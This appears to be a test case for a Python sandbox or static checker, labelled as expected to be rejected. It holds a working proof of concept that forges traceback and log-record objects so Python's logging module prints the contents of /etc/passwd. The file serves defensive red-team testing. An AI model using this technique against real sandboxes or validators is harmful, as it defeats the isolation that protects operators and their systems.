# expect: reject method
# line: 62
# verified: eighth static red team, ok_15 (plain python3 3.11, temp dir: goal reached)
#
# Mechanism: forged traceback through a program-made log record (see ok_11): a Logger with the program's StreamHandler, logger.handle(Rec())
# Goal reached: /etc/passwd read
# Output under python3 (3.11, throw-away temp dir):
#   hello
#   Traceback (most recent call last):
#     File "/etc/passwd", line 1, in pwned
#       root:x:0:0:root:/root:/bin/bash
#   ValueError: v

import logging
import sys


class Code:
    def __init__(self):
        self.co_filename = "/etc/passwd"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __getattr__(self, name):
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return 1
        return None


class Rec:
    def __init__(self):
        self.name = "x"
        self.levelname = "WARNING"
        self.levelno = 30
        self.msg = "hello"

    def getMessage(self):
        return self.msg

    def __getattr__(self, name):
        if name.startswith("exc") and not name.endswith("text"):
            return (ValueError, ValueError("v"), Tb())
        return None


h = logging.StreamHandler(sys.stdout)
logging.getLogger("q").addHandler(h)
logging.getLogger("q").handle(Rec())
